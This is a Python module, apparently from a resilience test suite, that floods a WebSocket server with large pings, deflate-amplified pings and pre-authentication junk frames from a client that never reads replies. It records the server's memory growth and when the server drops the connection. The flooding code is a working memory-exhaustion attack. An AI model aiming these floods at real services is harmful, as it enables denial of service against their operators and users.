"""Attacks 1 and 2: a client that never reads, flooding the server with frames that earn replies.

The client's WebSocket stops reading after one message (``max_queue=1``
pauses the transport), so every reply the server makes stays with the
server: in its queues, or in the socket buffers once those are full. The
flood is bounded in time and bytes. Figures: the server's memory growth, the
memory it still holds a few seconds after the client has gone, and whether
(and when) the server dropped the connection, seen from ``/proc`` (the
server no longer holds the socket) or as our sends failing.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
import zlib
from collections.abc import Callable
from typing import Any

from websockets.exceptions import ConnectionClosed

from . import procfs, wire
from .outcome import Outcome, mb, secs
from .target import Target
from .watch import Watch, settled_rss

PING_T_CHARS = 900_000
DEFLATE_T_CHARS = 1_000_000
JUNK_BYTES = 60_000_000
JUNK_CHUNK_BYTES = 256 << 10


async def flood(
    target: Target,
    make_frame: Callable[[int], wire.Frame] | None = None,
    *,
    raw_chunk: bytes | None = None,
    seconds: float,
    max_bytes: int,
    compression: str | None = None,
    hello_first: bool = True,
) -> dict[str, Any]:
    """Send frames without ever reading; the figures.

    Frames come from ``make_frame(n)`` (sent by websockets), or ``raw_chunk``
    is written to the socket again and again: ready-made masked frames, so
    that the client costs nothing and the server's own pace decides.
    """
    ws = await wire.open_ws(target, compression=compression, max_queue=1)
    if hello_first:
        await wire.hello(ws, binary=True)
    port = wire.client_port(ws)
    read_before = procfs.bytes_read(target.pid)
    sent = frames = 0
    closed_at: float | None = None
    closed = asyncio.Event()
    started = time.monotonic()

    async def watch_socket() -> None:
        nonlocal closed_at
        while closed_at is None:
            if not procfs.holds_socket(target.pid, target.port, port):
                closed_at = time.monotonic() - started
                closed.set()
            await asyncio.sleep(0.2)

    async def send(n: int, left: float) -> int:
        if raw_chunk is not None:
            await wire.write_raw(ws, raw_chunk, left)
            return len(raw_chunk)
        assert make_frame is not None
        frame = make_frame(n)
        await asyncio.wait_for(ws.send(frame), left)
        return len(frame)

    async with Watch(target) as watch:
        watcher = asyncio.create_task(watch_socket())
        try:
            for n in itertools.count():
                left = seconds - (time.monotonic() - started)
                if left <= 0 or sent >= max_bytes or closed_at is not None:
                    break
                try:
                    sent += await send(n, left)
                except asyncio.TimeoutError:
                    break  # the server stopped reading from us: the sender is stuck until the end
                except (ConnectionClosed, ConnectionError):
                    closed_at = closed_at or time.monotonic() - started
                    closed.set()
                    break
                frames += 1
            # Give the server the rest of the time to close on its own.
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(closed.wait(), max(0.0, seconds - (time.monotonic() - started)))
        finally:
            watcher.cancel()
    server_read = procfs.bytes_read(target.pid) - read_before
    extensions = [type(e).__name__ for e in getattr(ws.protocol, "extensions", [])]
    wire.abort(ws)
    return {
        **watch.figures(),
        "rss_after_leaving_mib": await settled_rss(target),
        "sent_mib": round(sent / procfs.MIB, 1),
        "server_read_mib": round(server_read / procfs.MIB, 1),
        "writes": frames,
        "seconds": seconds,
        "closed": closed_at is not None,
        "closed_after_s": None if closed_at is None else round(closed_at, 2),
        "extensions": extensions,
    }


def _cell(f: dict[str, Any]) -> str:
    closed = f"closed after {secs(f['closed_after_s'])}" if f["closed"] else f"not closed in {f['seconds']:.0f} s"
    kept = None if f["rss_after_leaving_mib"] is None else f["rss_after_leaving_mib"] - f["rss_before_mib"]
    return f"{mb(f['rss_growth_mib'])} peak ({f['sent_mib']:,.0f} MiB of frames sent, server read {f['server_read_mib']:,.0f} MiB); {closed}; {mb(kept)} kept after leaving"


async def big_pings(target: Target) -> Outcome:
    """1a: pings whose ``t`` is ~900 KB, compression off."""
    t = "x" * PING_T_CHARS
    figures = await flood(target, lambda n: wire.encode({"type": "ping", "t": t}, binary=True), seconds=15, max_bytes=1 << 40)
    return Outcome(_cell(figures), figures)


async def deflated_pings(target: Target) -> Outcome:
    """1b: permessage-deflate on; each ping's ~1 MB ``t`` is ~1 KB on the wire."""
    t = "ping " * (DEFLATE_T_CHARS // 5)
    frame = wire.encode({"type": "ping", "t": t}, binary=True)
    figures = await flood(target, lambda n: frame, seconds=15, max_bytes=1 << 40, compression="deflate")
    figures["frame_bytes"] = len(frame)
    figures["deflated_frame_bytes_approx"] = len(zlib.compress(frame if isinstance(frame, bytes) else frame.encode(), 6))
    negotiated = "deflate on" if "PerMessageDeflate" in figures["extensions"] else "deflate NOT negotiated"
    return Outcome(f"{_cell(figures)} ({negotiated})", figures)


async def junk_before_hello(target: Target) -> Outcome:
    """2: a token-protected server; 60 MB of small frames before any hello, each earning ``not_ready``."""
    frame = wire.masked_frame(wire.encode({"type": "cancel", "id": "junk"}, binary=False))
    chunk = frame * (JUNK_CHUNK_BYTES // len(frame))
    figures = await flood(target, raw_chunk=chunk, seconds=20, max_bytes=JUNK_BYTES, hello_first=False)
    figures["frame_bytes"] = len(frame)
    return Outcome(_cell(figures), figures)
